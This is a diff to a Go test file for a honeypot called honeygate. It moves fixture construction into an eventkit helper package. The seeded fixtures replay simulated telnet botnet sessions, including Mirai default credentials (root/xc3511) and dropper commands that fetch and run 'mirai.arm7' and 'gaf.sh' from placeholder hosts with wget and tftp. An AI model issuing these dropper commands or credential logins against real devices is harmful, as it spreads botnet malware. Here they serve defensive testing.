@@ -24,6 +24,7 @@ import (
 	"github.com/honeygate/honeygate/internal/store"
 	"github.com/honeygate/honeygate/internal/store/sqlite"
 	"github.com/honeygate/honeygate/internal/testkit"
+	"github.com/honeygate/honeygate/internal/testkit/eventkit"
 	"github.com/honeygate/honeygate/internal/web"
 )
 
@@ -42,130 +43,84 @@ const (
 	sRecent    = "5e55a0000009" // ten minutes ago, still open, no family
 )
 
-// attacker builds the events of one telnet session with deterministic ids.
-// Events after an attribution carry the family, as the sensor sends them.
-type attacker struct {
-	id, ip           string
-	srcPort, dstPort int
-	start            time.Time
-	family           string
-	seq              int
-	evs              []event.Event
-}
-
-func newAttacker(id, ip string, srcPort, dstPort int, start time.Time) *attacker {
-	return &attacker{id: id, ip: ip, srcPort: srcPort, dstPort: dstPort, start: start}
-}
-
-func (a *attacker) add(kind event.Kind, at time.Duration, fill func(e *event.Event)) *attacker {
-	a.seq++
-	e := event.Event{
-		ID: fmt.Sprintf("%s-%02d", a.id, a.seq), Time: a.start.Add(at), Kind: kind,
-		Sensor: "hp-edge-01", Proto: "telnet", SrcIP: a.ip, SrcPort: a.srcPort, DstPort: a.dstPort,
-		Session: a.id, Family: a.family,
-	}
-	if fill != nil {
-		fill(&e)
-	}
-	a.evs = append(a.evs, e)
-	return a
-}
-
-func (a *attacker) connect() *attacker { return a.add(event.SessionConnect, 0, nil) }
-
-func (a *attacker) size(at time.Duration, w, h int) *attacker {
-	return a.add(event.ClientSize, at, func(e *event.Event) { e.Width, e.Height = w, h })
-}
-
-func (a *attacker) login(at time.Duration, user, pass string, ok bool) *attacker {
-	kind := event.LoginFailed
-	if ok {
-		kind = event.LoginSuccess
-	}
-	return a.add(kind, at, func(e *event.Event) { e.Username, e.Password = event.Text(user), event.TextPtr(pass) })
-}
-
-func (a *attacker) cmd(at time.Duration, input, output string) *attacker {
-	return a.add(event.CommandInput, at, func(e *event.Event) { e.Input, e.Output = event.Text(input), event.Text(output) })
-}
-
-func (a *attacker) download(at time.Duration, u, tool, filename string) *attacker {
-	return a.add(event.FileDownload, at, func(e *event.Event) {
-		e.URL, e.Tool, e.Filename = event.Text(u), event.Text(tool), event.Text(filename)
-	})
-}
-
-func (a *attacker) attribute(at time.Duration, family string, reasons ...string) *attacker {
-	a.family = family
-	return a.add(event.SessionAttributed, at, func(e *event.Event) { e.Reasons = reasons })
-}
-
-func (a *attacker) close(at time.Duration) *attacker {
-	return a.add(event.SessionClosed, at, func(e *event.Event) {
-		e.Duration, e.Bytes, e.Message = at.Seconds(), 4096, "client closed"
-	})
-}
-
 func day(d int, h, m, s int) time.Time { return time.Date(2025, 6, d, h, m, s, 0, time.UTC) }
 
 func ms(n int) time.Duration { return time.Duration(n) * time.Millisecond }
 
+// attacker starts a telnet session whose events after an attribution carry
+// the family, as the sensor sends them.
+func attacker(id, ip string, srcPort, dstPort int, start time.Time) *eventkit.Session {
+	return eventkit.New(id, ip, dstPort, start, eventkit.SrcPort(srcPort), eventkit.CarryFamily())
+}
+
 // miraiBrute is the short Mirai scan seen thousands of times a day.
 func miraiBrute(id, ip string, dstPort int, start time.Time) []event.Event {
-	return newAttacker(id, ip, 40000+dstPort%1000, dstPort, start).
-		connect().
-		login(ms(800), "root", "xc3511", true).
-		cmd(ms(1500), "/bin/busybox MIRAI", "MIRAI: applet not found").
-		attribute(ms(1510), "mirai", "busybox applet MIRAI").
-		close(ms(3000)).evs
+	a := attacker(id, ip, 40000+dstPort%1000, dstPort, start)
+	return []event.Event{
+		a.Connect(0),
+		a.Login(ms(800), "root", "xc3511", true),
+		a.Command(ms(1500), "/bin/busybox MIRAI", "MIRAI: applet not found"),
+		a.Attributed(ms(1510), "mirai", "busybox applet MIRAI"),
+		a.Closed(ms(3000), "mirai"),
+	}
 }
 
 // seedEvents returns the sessions the API tests query, in arrival order.
 func seedEvents(now time.Time) []event.Event {
-	var evs []event.Event
-	evs = append(evs, newAttacker(sMiraiFull, "203.0.113.7", 51022, 23, day(10, 8, 15, 0)).
-		connect().
-		size(ms(50), 80, 24).
-		login(ms(1000), "root", "", false).
-		login(ms(2000), "admin", "admin", false).
-		login(ms(3000), "root", "xc3511", true).
-		cmd(ms(4000), "enable", "").
-		cmd(ms(4500), "system", "").
-		cmd(ms(5000), "shell", "").
-		cmd(ms(5500), "sh", "").
-		cmd(ms(6000), "/bin/busybox MIRAI", "MIRAI: applet not found").
-		attribute(ms(6100), "mirai", "busybox applet MIRAI", "credential root/xc3511").
-		cmd(ms(7000), "cd /tmp || cd /var/run; wget http://198.51.100.9/bins/mirai.arm7 -O dvrHelper", "").
-		download(ms(7100), "http://198.51.100.9/bins/mirai.arm7", "wget", "dvrHelper").
-		cmd(ms(8000), "chmod 777 dvrHelper; ./dvrHelper telnet.arm7", "").
-		close(ms(9000)).evs...)
-	evs = append(evs, newAttacker(sGafgyt, "198.51.100.23", 40110, 2323, day(10, 9, 30, 0)).
-		connect().
-		login(ms(1000), "admin", "", true).
-		cmd(ms(2000), "sh", "").
-		cmd(ms(3000), "cd /tmp; tftp -g -r gaf.sh 198.51.100.77; sh gaf.sh", "").
-		download(ms(3100), "tftp://198.51.100.77/gaf.sh", "tftp", "gaf.sh").
-		attribute(ms(3200), "gafgyt", "tftp dropper gaf.sh").
-		close(ms(4000)).evs...)
-	evs = append(evs, newAttacker(sMidnight, "203.0.113.7", 51999, 23, day(10, 23, 59, 58)).
-		connect().
-		login(ms(1000), "support", "support", false). // 23:59:59
-		login(ms(3000), "user", "", false).           // 00:00:01 the next day
-		close(ms(7000)).evs...)                       // 00:00:05
-	evs = append(evs, miraiBrute(sMirai4, "192.0.2.44", 23, day(11, 10, 0, 0))...)
-	evs = append(evs, miraiBrute(sMirai5, "192.0.2.44", 23, day(11, 11, 0, 0))...)
-	evs = append(evs, miraiBrute(sMirai6, "203.0.113.7", 23, day(11, 12, 0, 0))...)
-	evs = append(evs, miraiBrute(sMirai7, "192.0.2.44", 2323, day(11, 13, 0, 0))...)
-	evs = append(evs, newAttacker(sIPv6, "2001:db8::bad", 60001, 23, day(12, 6, 0, 0)).
-		connect().
-		login(ms(500), "default", "", true).
-		cmd(ms(900), "/bin/busybox wget http://[2001:db8::77]/g.sh", "").
-		attribute(ms(950), "gafgyt", "dropper g.sh").
-		close(ms(2000)).evs...)
-	evs = append(evs, newAttacker(sRecent, "198.51.100.200", 45000, 23, now.Add(-10*time.Minute)).
-		connect().
-		login(ms(1200), "guest", "guest", false).evs...)
-	return evs
+	full := attacker(sMiraiFull, "203.0.113.7", 51022, 23, day(10, 8, 15, 0))
+	gafgyt := attacker(sGafgyt, "198.51.100.23", 40110, 2323, day(10, 9, 30, 0))
+	midnight := attacker(sMidnight, "203.0.113.7", 51999, 23, day(10, 23, 59, 58))
+	ipv6 := attacker(sIPv6, "2001:db8::bad", 60001, 23, day(12, 6, 0, 0))
+	recent := attacker(sRecent, "198.51.100.200", 45000, 23, now.Add(-10*time.Minute))
+	return slices.Concat(
+		[]event.Event{
+			full.Connect(0),
+			full.Size(ms(50), 80, 24),
+			full.Login(ms(1000), "root", "", false),
+			full.Login(ms(2000), "admin", "admin", false),
+			full.Login(ms(3000), "root", "xc3511", true),
+			full.Command(ms(4000), "enable", ""),
+			full.Command(ms(4500), "system", ""),
+			full.Command(ms(5000), "shell", ""),
+			full.Command(ms(5500), "sh", ""),
+			full.Command(ms(6000), "/bin/busybox MIRAI", "MIRAI: applet not found"),
+			full.Attributed(ms(6100), "mirai", "busybox applet MIRAI", "credential root/xc3511"),
+			full.Command(ms(7000), "cd /tmp || cd /var/run; wget http://198.51.100.9/bins/mirai.arm7 -O dvrHelper", ""),
+			full.Download(ms(7100), "http://198.51.100.9/bins/mirai.arm7", "wget", "dvrHelper"),
+			full.Command(ms(8000), "chmod 777 dvrHelper; ./dvrHelper telnet.arm7", ""),
+			full.Closed(ms(9000), "mirai"),
+		},
+		[]event.Event{
+			gafgyt.Connect(0),
+			gafgyt.Login(ms(1000), "admin", "", true),
+			gafgyt.Command(ms(2000), "sh", ""),
+			gafgyt.Command(ms(3000), "cd /tmp; tftp -g -r gaf.sh 198.51.100.77; sh gaf.sh", ""),
+			gafgyt.Download(ms(3100), "tftp://198.51.100.77/gaf.sh", "tftp", "gaf.sh"),
+			gafgyt.Attributed(ms(3200), "gafgyt", "tftp dropper gaf.sh"),
+			gafgyt.Closed(ms(4000), "gafgyt"),
+		},
+		[]event.Event{
+			midnight.Connect(0),
+			midnight.Login(ms(1000), "support", "support", false), // 23:59:59
+			midnight.Login(ms(3000), "user", "", false),           // 00:00:01 the next day
+			midnight.Closed(ms(7000), ""),                         // 00:00:05
+		},
+		miraiBrute(sMirai4, "192.0.2.44", 23, day(11, 10, 0, 0)),
+		miraiBrute(sMirai5, "192.0.2.44", 23, day(11, 11, 0, 0)),
+		miraiBrute(sMirai6, "203.0.113.7", 23, day(11, 12, 0, 0)),
+		miraiBrute(sMirai7, "192.0.2.44", 2323, day(11, 13, 0, 0)),
+		[]event.Event{
+			ipv6.Connect(0),
+			ipv6.Login(ms(500), "default", "", true),
+			ipv6.Command(ms(900), "/bin/busybox wget http://[2001:db8::77]/g.sh", ""),
+			ipv6.Attributed(ms(950), "gafgyt", "dropper g.sh"),
+			ipv6.Closed(ms(2000), "gafgyt"),
+		},
+		[]event.Event{
+			recent.Connect(0),
+			recent.Login(ms(1200), "guest", "guest", false),
+		},
+	)
 }
 
 func openStore(t *testing.T) *sqlite.DB {
@@ -415,7 +370,7 @@ func TestEvents(t *testing.T) {
 			func(e *event.Event) bool { return e.Time.Year() == 2025 && e.Time.Day() == 11 }, 22, 0},
 		{"since RFC 3339 inclusive, until exclusive",
 			q("since", "2025-06-11T00:00:01Z", "until", "2025-06-11T00:00:05Z"),
-			func(e *event.Event) bool { return e.ID == sMidnight+"-03" }, 1, 0},
+			func(e *event.Event) bool { return e.ID == sMidnight+"-0003" }, 1, 0},
 		{"since RFC 3339 with offset", q("since", "2025-06-11T01:00:00+01:00", "until", "2025-06-11T02:00:05.5+02:00"),
 			func(e *event.Event) bool { return e.Session == sMidnight && e.Time.Day() == 11 }, 2, 0},
 		{"since RFC 3339 nanoseconds", q("since", "2025-06-10T08:15:07.100000000Z", "session", sMiraiFull),
